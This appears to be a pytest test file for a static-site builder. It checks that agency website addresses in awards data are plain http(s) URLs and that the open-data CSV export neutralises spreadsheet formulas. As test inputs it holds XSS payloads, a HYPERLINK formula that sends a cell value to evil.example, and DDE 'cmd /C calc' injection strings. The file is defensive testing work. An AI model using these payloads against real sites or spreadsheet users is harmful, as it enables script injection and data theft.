"""Award cells as data: an agency's website must be a plain http(s) address,
and the open-data CSV never hands a spreadsheet a formula to run.
"""

import json

import pandas as pd
import pytest

from awards_helpers import AGENCIES, write_awards
from chapar.awards import opendata, validation
from chapar.build.errors import BuildError
from conftest import build_site, make_site
from escaping_support import AGENCY, FESTIVAL, PARTNER, hostile_awards, hostile_news, table

EVIL = 'https://evil.example/" onmouseover="alert(1)" x="'


@pytest.mark.parametrize(
    "value",
    [
        EVIL,
        "javascript:alert(1)",
        "JavaScript://example.org/%0Aalert(1)",
        "data:text/html,<script>alert(1)</script>",
        "ftp://example.org/",
        "//evil.example/",
        "www.example.org",
        "http:example.org",
        "https:///path-only",
        "https://exa mple.org/",
        "https://example.org/a b",
        "https://example.org/\x01",
        "https://example.org/\u202egnp.exe",
        "https://example.org/'onmouseover='x",
        "https://example.org/<script>",
        "https://example.org\\@evil.example/",
        "https://ministry.ir@evil.example/",
        "https://[::1/",
        "https://example.org:99999/",
        "https://example.org:0/",
    ],
)
def test_website_that_is_not_a_plain_http_address_is_refused(value):
    assert validation.website_problem(value) is not None


@pytest.mark.parametrize(
    "value",
    [
        "https://example.org/registry",
        "http://www.example.ir",
        "https://example.org/a?b=1&c=2#top",
        "https://سازمان.ایران/درباره",
        "HTTPS://Example.org:8443/",
    ],
)
def test_plain_http_addresses_are_accepted(value):
    assert validation.website_problem(value) is None


def test_bad_website_is_a_problem_at_its_line_naming_the_column(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    agencies = (
        AGENCIES
        + f'"x",اداره کل ایکس,,,"{EVIL.replace(chr(34), chr(34) * 2)}"\n'
        + "y,اداره کل ایگرگ,,,javascript:alert(1)\n"
    )
    write_awards(tmp_path / "aw", agencies=agencies)
    data, problems = validation.load("aw", today_year=1405)
    assert data is None
    found = [str(p) for p in problems]
    assert found[0].startswith(
        f"aw/agencies.csv:5: website {EVIL!r} must not contain QUOTATION MARK"
    )
    assert (
        found[1]
        == "aw/agencies.csv:6: website 'javascript:alert(1)' must start with http:// or https://"
    )
    assert len(found) == 2


def test_a_site_with_a_bad_website_is_not_built(tmp_path):
    root = make_site(tmp_path, news=hostile_news())
    folder = root / "data" / "awards"
    hostile_awards(folder)
    (folder / "agencies.csv").write_text(
        table([{**AGENCY, "website": EVIL}, PARTNER]), encoding="utf-8"
    )
    with pytest.raises(BuildError) as error:
        build_site(root)
    assert [p for p in error.value.problems if "website" in p] == [
        (
            f"data/awards/agencies.csv:2: website {EVIL!r} must not contain QUOTATION MARK ('\"'); "
            "write the whole address, e.g. https://www.example.ir/"
        )
    ]
    assert not (root / "output").exists()


FORMULAS = {
    "group": '=HYPERLINK("http://evil.example/?"&A1,"جزئیات")',
    "category": "@SUM(1+1)*cmd|' /C calc'!A0",
    "award": "+برتر",
    "note": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory):
    root = make_site(tmp_path_factory.mktemp("formulas"), news=hostile_news())
    hostile_awards(root / "data" / "awards", **FORMULAS)
    festivals = root / "data" / "awards" / "festivals.csv"
    festivals.write_text(table([{**FESTIVAL, "title": "=1+1 جشنواره"}]), encoding="utf-8")
    return build_site(root)


def test_open_data_csv_neutralises_formulas_and_json_keeps_the_true_values(formula_site):
    folder = formula_site / "awards" / "data"
    csv = pd.read_csv(folder / "awards.csv", dtype=str, keep_default_na=False)
    records = json.loads((folder / "awards.json").read_text(encoding="utf-8"))
    assert len(csv) == len(records) == 2
    for row, record in zip(csv.to_dict("records"), records, strict=False):
        for column, value in FORMULAS.items():
            assert row[column] == "'" + value
            assert record[column] == value
        assert (row["festival_title"], record["festival_title"]) == (
            "'=1+1 جشنواره",
            "=1+1 جشنواره",
        )
        assert row["agency_name"] == record["agency_name"] in (AGENCY["name"], PARTNER["name"])
    package = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    assert "awards.json has every value as it is" in package["description"]


def test_pages_show_the_true_values_of_formula_cells(formula_site):
    html = (formula_site / "awards" / "festival" / "fest-1397" / "index.html").read_text(
        encoding="utf-8"
    )
    assert "<td>@SUM(1+1)*cmd|&#39; /C calc&#39;!A0</td>" in html
    assert "'@SUM" not in html


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+98 21 1234", "'+98 21 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-5", "-5"),  # a negative number is a number, not a formula
        ("-1.5", "-1.5"),
        ("-", "'-"),
        ("برتر", "برتر"),
        ("a=1", "a=1"),
        ("", ""),
        (1397, 1397),
    ],
)
def test_neutralise_follows_the_csv_injection_rule(cell, expected):
    assert opendata.neutralise(cell) == expected


def test_spreadsheet_safe_changes_only_formula_cells():
    rows = [("f", 1397, "=1", "x"), ("g", 1398, "ok", "-5")]
    assert opendata.spreadsheet_safe(rows) == [("f", 1397, "'=1", "x"), ("g", 1398, "ok", "-5")]
    clean = [("f", 1397, "ok")]
    assert opendata.spreadsheet_safe(clean) is clean
    assert opendata.spreadsheet_safe([]) == []
